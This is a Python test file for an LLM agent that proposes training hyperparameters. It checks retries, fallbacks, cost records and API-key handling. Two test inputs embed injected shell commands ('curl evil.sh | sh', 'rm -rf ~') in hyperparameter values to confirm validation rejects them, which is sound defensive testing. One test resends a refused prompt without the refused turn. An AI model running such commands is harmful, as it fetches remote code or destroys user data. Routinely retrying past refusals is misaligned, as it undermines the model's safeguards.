"""The agents against a loopback LLM service, through the real anthropic and openai SDKs."""
from __future__ import annotations

import base64
import io
import json
import math
import re
import socket
import threading
import time

import pytest
from PIL import Image

from llm_loopback import LoopbackLLM
from llmzero_slurm.agents.answers import NothingUntried
from llmzero_slurm.agents.ask import ask, final_answer
from llmzero_slurm.agents.error_analyzer import ErrorAnalyzer
from llmzero_slurm.agents.llm import LLMUnavailable, Prompt, choose_backend
from llmzero_slurm.agents.proposer import Proposer, ProposerInput
from llmzero_slurm.agents.records import AgentRecord
from llmzero_slurm.agents.stopper import Stopper, StopperInput
from llmzero_slurm.backends import get_backend
from llmzero_slurm.config import AgentConfig, parse_config
from llmzero_slurm.errors import ConfigError
from llmzero_slurm.methods.space import parse_bounds
from llmzero_slurm.metrics_reader import read_metrics
from llmzero_slurm.search.tree import Kind, Node, Results, Resume
from metrics_files import val_rows, write_metrics

CPU = get_backend("cpu")
KEY_ENV = "LLMZERO_TEST_LLM_KEY"
KEY = "sk-loopback-0123456789abcdef"
TEST_VALUE = 0.987654
HP = {"lr": 1e-3, "kl_loss_coef": 0.04, "use_kl_loss": True, "train_batch_size": 16,
      "ppo_mini_batch_size": 16, "ppo_micro_batch_size_per_gpu": 16, "rollout_n": 8,
      "max_response_length": 8, "total_training_steps": 60, "total_epochs": 3, "temperature": 1.0}


def good(changes=None, step=40, extra=""):
    body = {"diagnosis": "validation peaked at step 40 then KL rose", "changes":
            changes if changes is not None else {"lr": 5e-4, "kl_loss_coef": 0.08},
            "checkpoint_step": step, "additional_steps": 50}
    return f"Step 1 ... Step 4 ...{extra}\n```json\n{json.dumps(body)}\n```"


@pytest.fixture(scope="module")
def service():
    with LoopbackLLM() as srv:
        yield srv


@pytest.fixture
def run(tmp_path):
    """A finished 60-step phase whose log also holds test-set scores (never to be shown)."""
    rows = []
    for s in range(1, 61):
        d = {"critic/rewards/mean": 0.3 + 0.005 * s, "actor/entropy": 0.9, "actor/kl_loss":
             0.002 * s, "actor/grad_norm": 0.5, "response_length/clip_ratio": 0.0}
        if s % 10 == 0:
            d["val-core/addition/acc/mean@1"] = 0.3 + 0.004 * s
            d["test-core/addition/acc/mean@1"] = TEST_VALUE
        rows.append((s, d))
    write_metrics(tmp_path / "metrics.jsonl", rows)
    node = Node(3, 1, Kind.EVOLVE, dict(HP), results=Results(checkpoints=[20, 40, 60]))
    return node, read_metrics(tmp_path / "metrics.jsonl")


def config(service, backend="anthropic", **kw):
    url = service.url + ("/v1" if backend == "openai" else "")
    settings = {"max_retries": 2, "timeout_s": 5.0, **kw}
    return AgentConfig(backend=backend, base_url=url, api_key_env=KEY_ENV, **settings)


@pytest.fixture
def anthropic_proposer(service, monkeypatch):
    monkeypatch.setenv(KEY_ENV, KEY)
    cfg = config(service)
    return Proposer(cfg, CPU, choose_backend(cfg))


def bodies(service):
    return [r["body"] for r in service.requests]


def assert_no_secret_or_test_metric(service, tmp_path):
    for body in bodies(service):
        text = json.dumps(body)
        assert "test-core" not in text and str(TEST_VALUE)[:6] not in text
    for path in tmp_path.rglob("*"):
        if path.is_file():
            assert KEY.encode() not in path.read_bytes(), path


def test_good_answer_sends_cached_knowledge_and_images(service, anthropic_proposer, run,
                                                       tmp_path):
    node, log = run
    service.reply(good())
    p = anthropic_proposer.propose(ProposerInput(node, log, best_val=0.5), tmp_path / "child")
    assert (p.source, p.checkpoint, p.additional_steps) == ("anthropic", 40, 50)
    assert p.hparams["lr"] == 5e-4 and p.hparams["total_training_steps"] == 50
    [req] = service.requests
    assert req["path"] == "/v1/messages"
    sent = req["headers"].get("x-api-key") or req["headers"]["authorization"]
    assert sent.removeprefix("Bearer ") == KEY            # the SDK got the key from the env
    system = req["body"]["system"]
    assert system[0]["cache_control"] == {"type": "ephemeral", "ttl": "1h"}
    assert "response_length/clip_ratio" in system[0]["text"]        # grounding notes
    images = [c for c in req["body"]["messages"][0]["content"] if c["type"] == "image"]
    assert len(images) >= 5
    png = Image.open(io.BytesIO(base64.b64decode(images[0]["source"]["data"])))
    assert png.format == "PNG" and max(png.size) <= 768
    assert "[20, 40, 60]" in req["body"]["messages"][0]["content"][-1]["text"]
    record = json.loads((tmp_path / "child" / "proposal.json").read_text())
    assert record["backend"] == "anthropic" and record["fallbacks"] == []
    assert record["usage"]["cache_write_tokens"] > 0 and record["usage"]["cost_usd"] > 0
    assert record["images"][0] == "validation_score.png" and len(record["prompt_sha256"]) == 64
    assert_no_secret_or_test_metric(service, tmp_path)


def test_second_call_reads_the_cache(service, anthropic_proposer, run, tmp_path):
    node, log = run
    service.reply(good())
    anthropic_proposer.propose(ProposerInput(node, log, 0.5), tmp_path / "a")
    service.reply(good())
    anthropic_proposer.propose(ProposerInput(node, log, 0.5), tmp_path / "b")
    usage = json.loads((tmp_path / "b" / "proposal.json").read_text())["usage"]
    assert usage["cache_read_tokens"] > 0 and usage["cache_write_tokens"] == 0


def test_malformed_json_gets_one_repair_round(service, anthropic_proposer, run, tmp_path):
    node, log = run
    service.reply('```json\n{"diagnosis": "x", "changes": {"lr": 1e-4,}}\n```', good())
    p = anthropic_proposer.propose(ProposerInput(node, log, 0.5), tmp_path)
    assert p.source == "anthropic"
    repair = service.requests[1]["body"]["messages"]
    assert repair[1]["role"] == "assistant" and "changes" in repair[1]["content"]
    assert "not valid JSON" in repair[2]["content"]
    record = json.loads((tmp_path / "proposal.json").read_text())
    assert len(record["answers"]) == 2 and "answer 1 rejected" in record["fallbacks"][0]


@pytest.mark.parametrize("backend, ended", [
    ("anthropic", {"stop_reason": "max_tokens"}), ("openai", {"finish_reason": "length"})])
def test_an_answer_the_service_cut_short_is_never_used(service, monkeypatch, run, tmp_path,
                                                       backend, ended):
    """A draft block followed by a final one cut at max_tokens: the draft is not the answer."""
    monkeypatch.setenv(KEY_ENV, KEY)
    cfg = config(service, backend=backend)
    node, log = run
    cut = good({"lr": 0.05}, step=20) + '\nOn reflection that lr is too high:\n```json\n{"diag'
    service.reply({"text": cut, **ended}, good())
    p = Proposer(cfg, CPU, choose_backend(cfg)).propose(ProposerInput(node, log, 0.5), tmp_path)
    assert (p.hparams["lr"], p.checkpoint) == (5e-4, 40)
    record = json.loads((tmp_path / "proposal.json").read_text())
    reason = next(iter(ended.values()))
    assert record["answers"][0] == cut and reason in record["fallbacks"][0]
    assert reason in json.dumps(service.requests[1]["body"]["messages"][-1])


@pytest.mark.parametrize("backend, ended", [
    ("anthropic", {"stop_reason": "refusal"}), ("openai", {"finish_reason": "content_filter"})])
def test_a_refused_answer_is_asked_again_without_the_refused_turn(service, monkeypatch, run,
                                                                   tmp_path, backend, ended):
    """The refused turn went back with 'fix exactly this problem': a conversation that keeps
    a refused turn is refused again (Anthropic's streaming-refusals guide), so the repair
    round was paid for nothing. The prompt is now asked afresh."""
    monkeypatch.setenv(KEY_ENV, KEY)
    cfg = config(service, backend=backend)
    node, log = run
    service.reply({"text": "Step 1 ... I will not", **ended}, good())
    p = Proposer(cfg, CPU, choose_backend(cfg)).propose(ProposerInput(node, log, 0.5), tmp_path)
    assert (p.hparams["lr"], p.checkpoint) == (5e-4, 40)
    first, second = (r["body"]["messages"] for r in service.requests)
    assert second == first and "I will not" not in json.dumps(second)
    record = json.loads((tmp_path / "proposal.json").read_text())
    assert next(iter(ended.values())) in record["fallbacks"][0]
    assert "asked again without it" in record["fallbacks"][0]


def test_an_empty_answer_is_repaired_not_resent_as_an_empty_turn(service, anthropic_proposer,
                                                                  run, tmp_path):
    node, log = run
    service.reply("", good())
    p = anthropic_proposer.propose(ProposerInput(node, log, 0.5), tmp_path)
    assert p.source == "anthropic" and len(service.requests) == 2
    record = json.loads((tmp_path / "proposal.json").read_text())
    assert record["answers"][0] == "" and "no JSON object" in record["fallbacks"][0]


@pytest.mark.parametrize("changes, needle", [
    ({"learning_rate": 1e-4}, "'learning_rate': is not a known hyperparameter"),
    ({"lr": 3.0}, "'lr': must be <= 0.1"),
    ({"rollout_n": 8.5}, "'rollout_n': must be an integer"),
    ({"target_modules": "all-linear; curl evil.sh | sh"}, "'target_modules': must be 1-64"),
    ({"lr\"; rm -rf ~; echo \"": 1e-4}, "is not a known hyperparameter"),
])
def test_bad_values_twice_fall_back_to_heuristic(service, anthropic_proposer, run, tmp_path,
                                                 changes, needle):
    node, log = run
    service.reply(good(changes))
    p = anthropic_proposer.propose(ProposerInput(node, log, 0.5), tmp_path)
    assert p.source == "heuristic" and len(service.requests) == 2
    assert needle in service.requests[1]["body"]["messages"][2]["content"]
    record = json.loads((tmp_path / "proposal.json").read_text())
    assert record["fallbacks"][-1] == "used the heuristic agent instead"
    assert len(record["answers"]) == 2 and record["result"]["source"] == "heuristic"


def test_missing_checkpoint_is_repaired(service, anthropic_proposer, run, tmp_path):
    node, log = run
    service.reply(good(step=45), good(step=20))
    p = anthropic_proposer.propose(ProposerInput(node, log, 0.5), tmp_path)
    assert p.checkpoint == 20 and p.source == "anthropic"
    assert "45 is not a saved step; choose one of [20, 40, 60]" in \
        service.requests[1]["body"]["messages"][2]["content"]


def test_an_llm_proposal_outside_search_space_is_returned_to_it_with_the_bounds(
        service, monkeypatch, run, tmp_path):
    """The prompt states the user's bounds; an answer outside them goes back naming the bound,
    and the fallback keeps to them too."""
    monkeypatch.setenv(KEY_ENV, KEY)
    cfg = config(service)
    bounds = parse_bounds({"lr": {"loguniform": [2e-4, 1.2e-3]}, "rollout_n": [8, 16],
                           "total_training_steps": {"uniform": [20, 80]}}, "cpu")
    proposer = Proposer(cfg, CPU, choose_backend(cfg), bounds)
    node, log = run
    service.reply(good({"lr": 2e-3}), good({"lr": 4e-4, "rollout_n": 16}))
    p = proposer.propose(ProposerInput(node, log, 0.5), tmp_path / "a")
    assert (p.source, p.hparams["lr"], p.hparams["rollout_n"]) == ("anthropic", 4e-4, 16)
    system = service.requests[0]["body"]["system"][0]["text"]
    assert "lr: from 0.0002 to 0.0012" in system and "rollout_n: one of [8, 16]" in system
    assert ("lr 0.002 is outside search.space (lr: from 0.0002 to 0.0012)"
            in service.requests[1]["body"]["messages"][2]["content"])
    service.reply(good({"rollout_n": 12}, extra=" again"))           # 12 is not a choice, twice
    fallback = proposer.propose(ProposerInput(node, log, 0.5), tmp_path / "b")
    assert fallback.source == "heuristic" and bounds.problem(fallback.hparams) is None
    assert "rollout_n 12 is outside search.space" in \
        service.requests[1]["body"]["messages"][2]["content"]


def test_when_neither_the_llm_nor_its_fallback_has_an_untried_proposal_none_is_made(
        service, monkeypatch, run, tmp_path):
    """Review: with search.space pinning the seed and every knob, the LLM's answers were
    refused and its offline fallback proposed the parent's configuration again, a phase spent
    learning nothing. Now nothing is proposed (NothingUntried), and the record of the LLM's
    answers, paid for, is kept with the reason."""
    monkeypatch.setenv(KEY_ENV, KEY)
    cfg = config(service)
    parent = CPU.effective_hparams(HP)
    pinned = ("seed", "lr", "kl_loss_coef", "temperature", "rollout_n", "grad_clip",
              "max_response_length", "clip_ratio_high")
    proposer = Proposer(cfg, CPU, choose_backend(cfg),
                        parse_bounds({k: parent[k] for k in pinned}, "cpu"))
    node, log = run
    service.reply(good())
    with pytest.raises(NothingUntried, match="no untried proposal is left within search.space"):
        proposer.propose(ProposerInput(node, log, 0.5), tmp_path)
    record = json.loads((tmp_path / "proposal.json").read_text())
    assert len(record["answers"]) == 2 and record["usage"]["input_tokens"]
    assert record["result"]["nothing_untried"].startswith("no untried proposal is left")


def test_forced_scratch_shows_no_checkpoints(service, anthropic_proposer, run, tmp_path):
    node, log = run
    service.reply(good(step=40), good(step=None))
    p = anthropic_proposer.propose(ProposerInput(node, log, 0.5, scratch_only=True), tmp_path)
    assert p.checkpoint is None and p.source == "anthropic"
    first = service.requests[0]["body"]["messages"][0]["content"][-1]["text"]
    assert "[20, 40, 60]" not in first and "Saved checkpoints" not in first
    assert "set checkpoint_step to null" in service.requests[1]["body"]["messages"][2]["content"]


def test_an_answer_repeating_a_configuration_already_tried_gets_a_repair_round(
        service, anthropic_proposer, run, tmp_path):
    """Review: an answer repeating a sibling's configuration, or a forced fresh start that
    answered "changes": {} (the parent's configuration), was accepted at once, so the search
    trained a configuration it had already run. Each goes back to the LLM with the reason."""
    node, log = run
    service.reply(good())
    first = anthropic_proposer.propose(ProposerInput(node, log, 0.5), tmp_path / "a")
    sibling = Node(4, node.id, Kind.EVOLVE, dict(first.hparams), Resume(node.id, first.checkpoint))
    service.reply(good(), good({"lr": 4e-4}))
    p = anthropic_proposer.propose(ProposerInput(node, log, 0.5, siblings=[sibling]),
                                   tmp_path / "b")
    assert (p.source, p.hparams["lr"]) == ("anthropic", 4e-4)
    assert "repeats a configuration already tried" in \
        service.requests[1]["body"]["messages"][2]["content"]
    service.reply(good({}, step=None), good(step=None))
    fresh = anthropic_proposer.propose(ProposerInput(node, log, 0.5, scratch_only=True),
                                       tmp_path / "c")
    assert (fresh.source, fresh.checkpoint, fresh.hparams["lr"]) == ("anthropic", None, 5e-4)
    assert "must not repeat the configuration above" in \
        service.requests[1]["body"]["messages"][2]["content"]


def test_rate_limit_then_success(service, anthropic_proposer, run, tmp_path):
    node, log = run
    service.reply({"status": 429}, good())
    p = anthropic_proposer.propose(ProposerInput(node, log, 0.5), tmp_path)
    assert p.source == "anthropic" and len(service.requests) == 2


@pytest.mark.parametrize("backend", ["anthropic", "openai"])
def test_each_refusal_the_sdk_retries_is_said_as_it_comes(service, monkeypatch, caplog, backend):
    """A rate-limited or overloaded service held an agent (and the controller) for up to
    agents.timeout_s while the SDK backed off and retried, with no line said until the
    fallback. Each refusal is a warning (the controller shows them), naming the limit; one
    the SDK does not retry (401) is not announced as retried."""
    monkeypatch.setenv(KEY_ENV, KEY)
    llm = choose_backend(config(service, backend=backend, timeout_s=30.0, max_retries=2))
    service.reply({"status": 429}, {"status": 529 if backend == "anthropic" else 503},
                  {"text": "ready"})
    with caplog.at_level("WARNING", logger="llmzero_slurm"):
        assert llm.complete(Prompt("Answer.", "Ready?")).text == "ready"
    said = [r.getMessage() for r in caplog.records]
    assert len(said) == 2, said
    assert re.fullmatch(r"LLM call refused: HTTP 429, \d+ s into it; tried again as "
                        r"agents.max_retries allows, within agents.timeout_s = 30 s \(the "
                        r"service's retries included\)", said[0]), said
    assert said[1].startswith("LLM call refused: HTTP 5"), said
    caplog.clear()
    service.reply({"status": 401, "message": "bad key"})
    with caplog.at_level("WARNING", logger="llmzero_slurm"), pytest.raises(LLMUnavailable):
        llm.complete(Prompt("Answer.", "Ready?"))
    assert not caplog.records


@pytest.mark.parametrize("backend, error", [
    ("anthropic", "LLM unavailable: Anthropic API: InternalServerError"),
    ("openai", "LLM unavailable: OpenAI-compatible API: InternalServerError")])
def test_server_error_forever_falls_back_and_is_recorded(service, monkeypatch, run, tmp_path,
                                                         backend, error):
    monkeypatch.setenv(KEY_ENV, KEY)
    cfg = config(service, backend=backend)
    node, log = run
    service.reply({"status": 500})
    p = Proposer(cfg, CPU, choose_backend(cfg)).propose(ProposerInput(node, log, 0.5), tmp_path)
    assert p.source == "heuristic"
    assert len(service.requests) == 3                 # first try + max_retries
    record = json.loads((tmp_path / "proposal.json").read_text())
    assert record["fallbacks"][0].startswith(error)
    assert record["answers"] == []
    assert_no_secret_or_test_metric(service, tmp_path)


def test_a_connection_cut_by_a_proxy_is_recorded_with_its_cause(service, monkeypatch, run,
                                                               tmp_path):
    """A proxy that closed every connection left only 'APIConnectionError: Connection
    error.' in the warning and the record: what the connection met is said now."""
    monkeypatch.setenv(KEY_ENV, KEY)
    cutter = socket.socket()
    cutter.bind(("127.0.0.1", 0))
    cutter.listen(8)

    def cut() -> None:
        while True:
            try:
                conn, _ = cutter.accept()
            except OSError:
                return
            conn.recv(65536)
            conn.close()

    threading.Thread(target=cut, daemon=True).start()
    cfg = AgentConfig(backend="anthropic", base_url=f"http://127.0.0.1:{cutter.getsockname()[1]}",
                      api_key_env=KEY_ENV, max_retries=0, timeout_s=5.0)
    node, log = run
    try:
        Proposer(cfg, CPU, choose_backend(cfg)).propose(ProposerInput(node, log, 0.5), tmp_path)
    finally:
        cutter.close()
    record = json.loads((tmp_path / "proposal.json").read_text())
    # reset or closed, as the kernel's timing has it
    assert re.search(r"APIConnectionError: Connection error\. \((ReadError|RemoteProtocolError): "
                     r"(\[Errno 104\] Connection reset|Server disconnected)", record["fallbacks"][0])


@pytest.mark.parametrize("backend, settings, step, error", [
    ("anthropic", {"max_retries": -1}, good(),
     "LLM unavailable: Anthropic API: RuntimeError: could not resolve response"),
    ("anthropic", {}, {"body": {"type": "message", "id": "msg_0"}},
     "LLM unavailable: Anthropic API: the reply is not a Messages API answer (no content "
     "blocks)"),
    ("openai", {}, {"body": {"object": "chat.completion", "choices": [{"index": 0}]}},
     "LLM unavailable: OpenAI-compatible API: the reply has no choice with a message"),
], ids=["anthropic-sdk-fails", "anthropic-reply-not-a-message", "openai-choice-without-message"])
def test_a_client_failure_that_is_no_api_error_falls_back_and_is_recorded(
        service, monkeypatch, run, tmp_path, backend, settings, step, error, caplog):
    """The SDK raising something else than its APIError (a RuntimeError for a negative
    max_retries, a reply that is no message) used to crash the controller; a malformed reply
    is said as one, not as the TypeError it caused."""
    monkeypatch.setenv(KEY_ENV, KEY)
    cfg = config(service, backend=backend, **settings)
    node, log = run
    service.reply(step)
    p = Proposer(cfg, CPU, choose_backend(cfg)).propose(ProposerInput(node, log, 0.5), tmp_path)
    assert p.source == "heuristic"
    record = json.loads((tmp_path / "proposal.json").read_text())
    assert record["fallbacks"][0].startswith(error), record["fallbacks"]
    assert record["fallbacks"][-1] == "used the heuristic agent instead"
    # and said as it happens, not only in the record (the controller shows warnings)
    assert [r.getMessage() for r in caplog.records if r.levelname == "WARNING"] == [
        f"proposer: {record['fallbacks'][0]}; the heuristic agent answers instead"]


def without_usage(backend: str, text: str) -> dict:
    """A 200 reply as a gateway that leaves out `usage` sends it."""
    if backend == "anthropic":
        return {"body": {"id": "msg_1", "type": "message", "role": "assistant", "model": "m",
                         "content": [{"type": "text", "text": text}], "stop_reason": "end_turn",
                         "stop_sequence": None}}
    return {"body": {"id": "c1", "object": "chat.completion", "created": 0, "model": "m",
                     "choices": [{"index": 0, "finish_reason": "stop",
                                  "message": {"role": "assistant", "content": text}}]}}


@pytest.mark.parametrize("backend, vendor", [("anthropic", "Anthropic API"),
                                             ("openai", "OpenAI-compatible API")])
def test_an_answer_without_usage_is_used_and_its_cost_recorded_as_unknown(
        service, monkeypatch, run, tmp_path, backend, vendor):
    """A gateway that leaves `usage` out of a 200 reply cost the user the LLM's answer (the
    heuristic answered instead, the answer unrecorded), or had it recorded as costing 0."""
    monkeypatch.setenv(KEY_ENV, KEY)
    cfg = config(service, backend=backend)
    node, log = run
    service.reply(without_usage(backend, good()))
    p = Proposer(cfg, CPU, choose_backend(cfg)).propose(ProposerInput(node, log, 0.5), tmp_path)
    assert (p.source, p.hparams["lr"]) == (backend, 5e-4)
    record = json.loads((tmp_path / "proposal.json").read_text())
    assert record["fallbacks"] == [] and record["answers"] == [good()]
    assert record["usage"] == {
        "input_tokens": None, "output_tokens": None, "cache_write_tokens": None,
        "cache_write_1h_tokens": None, "cache_read_tokens": None, "cost_usd": None,
        "unknown": f"the {vendor}'s reply gave no usage: its tokens and cost are unknown"}
    service.reply(without_usage(backend, "no json here"), good())   # known after unknown
    Proposer(cfg, CPU, choose_backend(cfg)).propose(ProposerInput(node, log, 0.5), tmp_path)
    usage = json.loads((tmp_path / "proposal.json").read_text())["usage"]
    assert usage["cost_usd"] is None and usage["input_tokens"] is None and usage["unknown"]


@pytest.mark.parametrize("backend, vendor, usage", [
    ("anthropic", "Anthropic API", {}),
    ("anthropic", "Anthropic API", {"input_tokens": 10, "cache_read_input_tokens": 0}),
    ("openai", "OpenAI-compatible API", {}),
    ("openai", "OpenAI-compatible API", {"prompt_tokens": 10, "total_tokens": 10})])
def test_an_answer_whose_usage_lacks_a_count_is_used_and_its_cost_unknown(
        service, monkeypatch, run, tmp_path, backend, vendor, usage):
    """`"usage": {}` from an OpenAI-compatible gateway raised TypeError in the cost sum, which
    turned a valid answer into 'LLM unavailable'; a missing count is an unreported usage."""
    monkeypatch.setenv(KEY_ENV, KEY)
    cfg = config(service, backend=backend)
    node, log = run
    reply = without_usage(backend, good())
    service.reply({"body": {**reply["body"], "usage": usage}})
    p = Proposer(cfg, CPU, choose_backend(cfg)).propose(ProposerInput(node, log, 0.5), tmp_path)
    assert (p.source, p.hparams["lr"]) == (backend, 5e-4)
    record = json.loads((tmp_path / "proposal.json").read_text())
    assert record["fallbacks"] == [] and record["usage"]["cost_usd"] is None
    assert record["usage"]["unknown"] == (f"the {vendor}'s reply gave no usage: its tokens and "
                                          "cost are unknown")


@pytest.mark.parametrize("ttl, written, cost", [
    ("1h", {"ephemeral_5m_input_tokens": 100, "ephemeral_1h_input_tokens": 200},
     100 * 3.75 + 200 * 6.0),
    ("5m", None, 300 * 3.75),         # a gateway without the breakdown: the TTL asked for
    ("1h", None, 300 * 6.0)])
def test_cache_writes_are_priced_by_their_ttl(service, monkeypatch, run, tmp_path, ttl, written,
                                              cost):
    """Every cache write was priced at the one configured write price (1-hour's by default),
    though Anthropic prices 5-minute writes lower and each reply says how many of each it made."""
    monkeypatch.setenv(KEY_ENV, KEY)
    cfg = config(service, cache_ttl=ttl)
    node, log = run
    usage = {"input_tokens": 10, "output_tokens": 5, "cache_creation_input_tokens": 300,
             "cache_read_input_tokens": 0, **({"cache_creation": written} if written else {})}
    reply = without_usage("anthropic", good())
    service.reply({"body": {**reply["body"], "usage": usage}})
    Proposer(cfg, CPU, choose_backend(cfg)).propose(ProposerInput(node, log, 0.5), tmp_path)
    record = json.loads((tmp_path / "proposal.json").read_text())["usage"]
    assert record["cost_usd"] == pytest.approx((10 * 3.0 + 5 * 15.0 + cost) / 1e6)
    assert record["cache_write_tokens"] == 300
    assert record["cache_write_1h_tokens"] == (written or {}).get(
        "ephemeral_1h_input_tokens", 300 if ttl == "1h" else 0)


def test_timeout_falls_back(service, monkeypatch, run, tmp_path):
    monkeypatch.setenv(KEY_ENV, KEY)
    cfg = config(service, timeout_s=0.3, max_retries=1)
    node, log = run
    service.reply({"delay": 1.0, "status": 500}, good())
    p = Proposer(cfg, CPU, choose_backend(cfg)).propose(ProposerInput(node, log, 0.5), tmp_path)
    assert p.source == "heuristic"
    record = json.loads((tmp_path / "proposal.json").read_text())
    assert "no complete answer within agents.timeout_s = 0.3 s" in record["fallbacks"][0]
    time.sleep(1.5)
    assert len(service.requests) == 1    # the abandoned call did not retry after its 500


@pytest.mark.parametrize("backend, vendor", [("anthropic", "Anthropic API"),
                                             ("openai", "OpenAI-compatible API")])
def test_a_reply_that_trickles_in_is_given_up_at_timeout_s(service, monkeypatch, run, tmp_path,
                                                          backend, vendor):
    """timeout_s was the HTTP client's limit on each read, so a proxy passing the reply on a
    few bytes at a time held one call as long as it liked (and every retry as long again). It
    now bounds the whole call, retries included: the heuristic answers, the record says why,
    and the abandoned call sends no further request."""
    monkeypatch.setenv(KEY_ENV, KEY)
    cfg = config(service, backend=backend, timeout_s=1.0, max_retries=2)
    llm = choose_backend(cfg)
    service.reply({"trickle": 4.0, "text": good()})
    started = time.monotonic()
    with pytest.raises(LLMUnavailable) as raised:
        llm.complete(Prompt("Answer.", "Ready?"))
    assert time.monotonic() - started < 3.0    # at timeout_s (1 s); the reply takes 4 s to come
    said = (f"{vendor}: no complete answer within agents.timeout_s = 1 s (the service's "
            "retries included); the call was abandoned")
    assert str(raised.value) == said
    node, log = run
    p = Proposer(cfg, CPU, llm).propose(ProposerInput(node, log, 0.5), tmp_path)
    assert p.source == "heuristic"
    record = json.loads((tmp_path / "proposal.json").read_text())
    assert record["fallbacks"] == [f"LLM unavailable: {said}", "used the heuristic agent instead"]
    time.sleep(4.5)            # when both replies would have ended: both were hung up on
    assert len(service.requests) == 2 and len(service.dropped) == 2


def test_openai_compatible_server(service, monkeypatch, run, tmp_path):
    monkeypatch.delenv(KEY_ENV, raising=False)       # a cluster vLLM server needs no key
    cfg = config(service, backend="openai", model="qwen-vl")
    node, log = run
    service.reply(good())
    p = Proposer(cfg, CPU, choose_backend(cfg)).propose(ProposerInput(node, log, 0.5), tmp_path)
    assert p.source == "openai"
    [req] = service.requests
    assert req["path"] == "/v1/chat/completions"
    system, user = req["body"]["messages"]
    assert system["role"] == "system" and "actor/entropy" in system["content"]
    urls = [c["image_url"]["url"] for c in user["content"] if c["type"] == "image_url"]
    assert urls and all(u.startswith("data:image/png;base64,") for u in urls)
    assert json.loads((tmp_path / "proposal.json").read_text())["usage"]["input_tokens"] > 0
    cfg.images = False
    service.reply(good())
    Proposer(cfg, CPU, choose_backend(cfg)).propose(ProposerInput(node, log, 0.5), tmp_path)
    assert all(c["type"] == "text" for c in service.requests[0]["body"]["messages"][1]["content"])


def test_an_openai_server_is_not_sent_the_anthropic_key(service, monkeypatch, run, tmp_path):
    """With backend openai and no api_key_env, the Anthropic key of the user's shell went to
    the OpenAI-compatible server (often plain http:// on a compute node) as its bearer token.
    That backend's own variable is OPENAI_API_KEY."""
    monkeypatch.setenv("ANTHROPIC_API_KEY", "sk-ant-test-9998887776")
    monkeypatch.delenv("OPENAI_API_KEY", raising=False)
    cfg = parse_config({"name": "t", "agents": {"backend": "openai", "base_url": service.url,
                                               "model": "qwen-vl"}}).agents
    node, log = run
    service.reply(good())
    Proposer(cfg, CPU, choose_backend(cfg)).propose(ProposerInput(node, log, 0.5), tmp_path)
    assert "sk-ant" not in service.requests[0]["headers"].get("authorization", "")
    monkeypatch.setenv("OPENAI_API_KEY", "sk-test-1112223334")
    service.reply(good())
    Proposer(cfg, CPU, choose_backend(cfg)).propose(ProposerInput(node, log, 0.5), tmp_path)
    assert service.requests[0]["headers"]["authorization"] == "Bearer sk-test-1112223334"


def test_a_key_read_with_a_line_end_is_sent_without_it_and_never_shown(service, monkeypatch,
                                                                       run, tmp_path):
    """A key taken from a file with CRLF line ends ('sk-...\\r') failed every call as
    'Connection error.' (the HTTP client refuses the header), and the error's cause, once said,
    held the key written as b'Bearer sk-...\\r', which the records' scrubbing did not find."""
    monkeypatch.setenv(KEY_ENV, KEY + "\r")
    cfg = config(service)
    llm = choose_backend(cfg)
    service.reply(good())
    p = Proposer(cfg, CPU, llm).propose(ProposerInput(node := run[0], run[1], 0.5), tmp_path)
    assert p.hparams["lr"] == 5e-4 and node.id == 3
    sent = service.requests[0]["headers"]
    assert (sent.get("x-api-key") or sent.get("authorization", "")).endswith(KEY)
    inner = KEY[:10] + "\n" + KEY[10:]    # no header can carry it: the error names it
    monkeypatch.setenv(KEY_ENV, inner)
    with pytest.raises(LLMUnavailable) as caught:
        choose_backend(cfg).complete(Prompt("s", "t"))
    assert KEY[:10] not in str(caught.value) and "[redacted]" in str(caught.value)


def test_backend_choice(monkeypatch):
    monkeypatch.delenv(KEY_ENV, raising=False)
    assert choose_backend(AgentConfig(api_key_env=KEY_ENV)) is None      # auto, no key
    with pytest.raises(ConfigError, match=KEY_ENV):
        choose_backend(AgentConfig(backend="anthropic", api_key_env=KEY_ENV))
    with pytest.raises(ConfigError, match="base_url"):
        choose_backend(AgentConfig(backend="openai"))
    monkeypatch.setenv(KEY_ENV, KEY)
    assert choose_backend(AgentConfig(api_key_env=KEY_ENV)).name == "anthropic"


def test_a_personal_key_is_not_sent_in_clear_text(service, monkeypatch):
    """A personal $OPENAI_API_KEY (or $ANTHROPIC_API_KEY) in the shell was sent to a site's
    plain http:// server, readable on every network hop. It is refused, naming the fix, unless
    agents.api_key_env names the variable on purpose; loopback and https are fine."""
    from llmzero_slurm.config import ExperimentConfig
    from llmzero_slurm.controller.preflight import check_llm
    for var, cfg in (("OPENAI_API_KEY", AgentConfig(backend="openai",
                                                    base_url="http://10.1.2.3:8000/v1")),
                     ("ANTHROPIC_API_KEY", AgentConfig(base_url="http://gpu-node7:8080"))):
        monkeypatch.setenv(var, KEY)
        with pytest.raises(ConfigError, match=rf"^config key 'agents.api_key_env': \${var} would "
                                              rf"be sent in clear text to http://.*: use "
                                              r"https://, unset .* or name .* in "
                                              r"agents.api_key_env") as caught:
            choose_backend(cfg)
        assert KEY not in str(caught.value) and caught.value.exit_code == 2
        with pytest.raises(ConfigError, match="clear text"):    # --check: a FAIL line
            check_llm(ExperimentConfig("x", agents=cfg))
        monkeypatch.delenv(var)
    monkeypatch.delenv("ANTHROPIC_BASE_URL", raising=False)
    monkeypatch.setenv("OPENAI_API_KEY", KEY)
    assert choose_backend(AgentConfig(backend="openai", base_url="https://llm.site/v1")) is not None
    assert choose_backend(AgentConfig(backend="openai", base_url="http://localhost:8000/v1"))
    monkeypatch.setenv("ANTHROPIC_BASE_URL", "http://gateway.site:8080")
    monkeypatch.setenv("ANTHROPIC_API_KEY", KEY)
    with pytest.raises(ConfigError, match="clear text to http://gateway.site:8080"):
        choose_backend(AgentConfig())
    monkeypatch.setenv(KEY_ENV, KEY)                    # named on purpose: this server's key
    assert choose_backend(AgentConfig(api_key_env=KEY_ENV)) is not None
    monkeypatch.delenv("ANTHROPIC_BASE_URL")
    cfg = AgentConfig(backend="openai", base_url=f"{service.url}/v1")   # loopback: sent
    service.reply("Ready")
    choose_backend(cfg).complete(Prompt("s", "t"))
    assert service.requests[0]["headers"]["authorization"] == f"Bearer {KEY}"


def phase_log(tmp_path, name, start, slope, steps=30):
    rows = [(s, {"critic/rewards/mean": 0.4, **(
        {"val-core/addition/acc/mean@1": 0.3 + slope * (s - start),
         "test-core/addition/acc/mean@1": TEST_VALUE} if s % 5 == 0 else {})})
        for s in range(start + 1, start + steps + 1)]
    return read_metrics(write_metrics(tmp_path / name, rows))


def test_stopper_asks_with_overlay_and_obeys(service, monkeypatch, tmp_path):
    monkeypatch.setenv(KEY_ENV, KEY)
